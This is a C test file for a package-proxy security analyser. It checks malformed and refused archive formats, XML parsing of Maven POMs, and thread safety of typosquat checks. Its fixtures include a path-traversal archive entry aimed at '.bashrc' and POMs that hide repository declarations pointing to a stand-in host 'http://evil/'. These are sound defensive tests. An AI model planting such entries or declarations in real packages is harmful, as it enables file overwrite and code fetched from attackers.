            CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
            CHECK_STR_EQ(reason_name(decide(sf->eco, pkg, "1.0", &f).reason), "malformed_archive");
        }
        buf_free(&b);
        if (sf->kind == RAW_GZ || sf->kind == RAW_XZ) {
            /* the bytes are not compressed at all */
            buf_init(&b);
            buf_puts(&b, "{\"plain\": \"json, not gzip, of some length to look like a file\"}\n");
            analyse(sf->eco, pkg, "1.0", sf->file, NULL, &b, &f);
            CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
            buf_free(&b);
            continue;
        }
        /* hostile entries: held */
        write_format(&b, sf, "../../../home/u/.bashrc");
        analyse(sf->eco, pkg, "1.0", sf->file, NULL, &b, &f);
        CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
        CHECK(strstr(f.detail[FINDING_MALFORMED_ARCHIVE], "climbs out of the archive") != NULL);
        CHECK(strstr(f.detail[FINDING_MALFORMED_ARCHIVE], sf->file) != NULL);
        buf_free(&b);
        /* not an archive at all (an error page served as the file) */
        buf_init(&b);
        buf_puts(&b, "<html><body>502 Bad Gateway, some proxy's error page</body></html>\n");
        analyse(sf->eco, pkg, "1.0", sf->file, NULL, &b, &f);
        CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
        buf_free(&b);
    }
    test_current = "every_served_format";

    /* a war (a Java archive) names its coordinates like a jar */
    buf_t b;
    findings_t f;
    buf_init(&b);
    struct archive *a = w_new(ZIP, &b, NULL);
    w_file(a, "WEB-INF/web.xml", "<web-app/>\n");
    w_file(a, "META-INF/maven/com.other/thing/pom.properties", "groupId=com.other\nartifactId=thing\nversion=1.0\n");
    w_close(a);
    analyse(ECO_MAVEN, "org.example:lib", "1.0", "lib-1.0.war", NULL, &b, &f);
    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
    buf_free(&b);

    /* archive formats cordon does not read are refused, whatever the bytes */
    static const char *const refused[] = {"lib-1.0.7z", "lib-1.0.rpm", "lib-1.0.deb", "lib-1.0.iso", "lib-1.0.cab",
                                          "lib-1.0.dmg", "lib-1.0.msi", "lib-1.0.cpio"};
    for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
        test_current = refused[i];
        CHECK(artifact_is_analysed(ECO_MAVEN, refused[i]));
        buf_init(&b);
        a = w_new(TGZ, &b, NULL); /* even a readable tarball in disguise */
        w_file(a, "x/README", "hello\n");
        w_close(a);
        analyse(ECO_MAVEN, "org.example:lib", "1.0", refused[i], NULL, &b, &f);
        CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
        CHECK(strstr(f.detail[FINDING_MALFORMED_ARCHIVE], "cordon does not read") != NULL);
        buf_free(&b);
    }
    test_current = "every_served_format";

    /* files that are not archives are served as they are */
    static const char *const plain[] = {"lib-1.0.module", "lib-1.0.jar.asc", "lib-1.0.txt", "lib-1.0.json",
                                        "lib-1.0.exe", "lib-1.0.so"};
    for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++)
        CHECK(!artifact_is_analysed(ECO_MAVEN, plain[i]));
}

/* POMs are read as XML: what a string search missed (a "<!--" inside CDATA
 * or a processing instruction hid the <repositories> after it) is found,
 * what it wrongly took for markup (CDATA text) is not, and a POM that
 * cannot be read as XML says so instead of passing as clean. */
TEST(pom_as_xml)
{
    load("quarantine: { min_age: 7d }\n");
    static const char *const declares[] = {
        "<project><description><![CDATA[ <!-- ]]></description><repositories><repository><url>http://evil/</url>"
        "</repository></repositories><!-- --></project>",
        "<project><?x <!-- ?><pluginRepositories><pluginRepository><url>http://evil/</url></pluginRepository>"
        "</pluginRepositories><!-- --></project>",
        "<project xmlns=\"http://maven.apache.org/POM/4.0.0\"><profiles><profile><repositories >"
        "<repository><url>http://evil/</url></repository></repositories></profile></profiles></project>",
        "<p:project xmlns:p=\"http://maven.apache.org/POM/4.0.0\"><p:repositories><p:repository>"
        "<p:url>http://evil/</p:url></p:repository></p:repositories></p:project>",
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><project><name>caf\xe9</name><repositories\n>"
        "<repository><url>http://evil/</url></repository></repositories></project>",
    };
    buf_t b;
    findings_t f;
    for (size_t i = 0; i < sizeof(declares) / sizeof(declares[0]); i++) {
        buf_init(&b);
        buf_puts(&b, declares[i]);
        analyse(ECO_MAVEN, "g:a", "1", "a-1.pom", NULL, &b, &f);
        if (f.mask != (1u << FINDING_POM_REPOSITORIES))
            fprintf(stderr, "missed: %s\n", declares[i]);
        CHECK(f.mask == (1u << FINDING_POM_REPOSITORIES));
        CHECK(strstr(f.detail[FINDING_POM_REPOSITORIES], "http://evil/") != NULL);
        buf_free(&b);
    }
    static const char *const clean[] = {
        "<project><description><![CDATA[<repositories> in a description is text]]></description></project>",
        "<project><!-- <repositories><repository><url>http://x/</url></repository></repositories> --></project>",
        ("<project><distributionManagement><repository><url>http://deploy/</url></repository>"
         "</distributionManagement></project>"),
    };
    for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
        buf_init(&b);
        buf_puts(&b, clean[i]);
        analyse(ECO_MAVEN, "g:a", "1", "a-1.pom", NULL, &b, &f);
        if (f.mask != 0)
            fprintf(stderr, "flagged: %s (%s)\n", clean[i], f.detail[FINDING_POM_REPOSITORIES]);
        CHECK_INT_EQ((long)f.mask, 0);
        buf_free(&b);
    }
    static const char *const unreadable[] = {
        "<project><repositories>",
        "<!DOCTYPE project [<!ENTITY r \"<repositories/>\">]><project>&r;</project>",
        "<project><description>a&nbsp;b</description></project>",
        "not xml at all",
        "",
    };
    for (size_t i = 0; i < sizeof(unreadable) / sizeof(unreadable[0]); i++) {
        buf_init(&b);
        buf_puts(&b, unreadable[i]);
        analyse(ECO_MAVEN, "g:a", "1", "a-1.pom", NULL, &b, &f);
        CHECK(f.mask == (1u << FINDING_POM_REPOSITORIES));
        CHECK(strstr(f.detail[FINDING_POM_REPOSITORIES], "cannot be read as XML") != NULL);
        CHECK(decide(ECO_MAVEN, "g:a", "1", &f).allow); /* warn by default, like a declared repository */
        buf_free(&b);
    }
}

/* The popular set is swapped (a reload, the periodic refresh of the served
 * part) while event loops check names against it: readers never see a
 * missing or freed set, and the built-in names are flagged throughout.
 * (analysis.c read the set pointer and its build time unlocked; run this
 * under ThreadSanitizer to see the race.) Counts are kept per thread and
 * checked on the main one. */
#define NAME_READERS 2
static atomic_int g_swapping;

typedef struct name_reader {
    int checks, misses;
} name_reader_t;

static void *check_names(void *arg)
{
    name_reader_t *r = arg;
    while (atomic_load(&g_swapping)) {
        findings_t f;
        findings_clear(&f);
        int64_t until;
        analysis_name_findings(ECO_NPM, r->checks % 2 ? "lodahs" : "expresss", time_now_ms(), &f, &until);
        r->misses += (f.mask & (1u << FINDING_TYPOSQUAT)) == 0;
        r->checks++;
        if (r->checks % 16 == 0)
            analysis_refresh(0); /* rebuilds: the served part is "old" at once */
    }
    return NULL;
}

TEST(popular_set_swaps_under_readers)
{
    load("quarantine: { min_age: 7d }\n");
    char err[300];
    CHECK_INT_EQ(analysis_configure(&g_cfg, err, sizeof(err)), 0);
    pthread_t t[NAME_READERS];
    name_reader_t r[NAME_READERS];
    memset(r, 0, sizeof(r));
    atomic_store(&g_swapping, 1);
    for (int i = 0; i < NAME_READERS; i++)
        CHECK_INT_EQ(pthread_create(&t[i], NULL, check_names, &r[i]), 0);
    int failed = 0;
    for (int n = 0; n < 60; n++)
        failed += analysis_configure(&g_cfg, err, sizeof(err)) != 0;
    atomic_store(&g_swapping, 0);
    for (int i = 0; i < NAME_READERS; i++) {
        pthread_join(t[i], NULL);
        CHECK(r[i].checks > 0);
        CHECK_INT_EQ(r[i].misses, 0);
    }
    CHECK_INT_EQ(failed, 0);
    analysis_shutdown();
}

int main(void)
{
    RUN(findings_in_policy);
    RUN(typosquat_through_policy);
    RUN(popular_set_swaps_under_readers);
    RUN(npm_install_script_history);
    RUN(npm_tarballs);
    RUN(wheels_and_jars);
    RUN(every_served_format);
    RUN(pom_as_xml);
    RUN(findings_store);
    RUN(listings_of_artifacts);
    config_free(&g_cfg);
    return test_report();
}
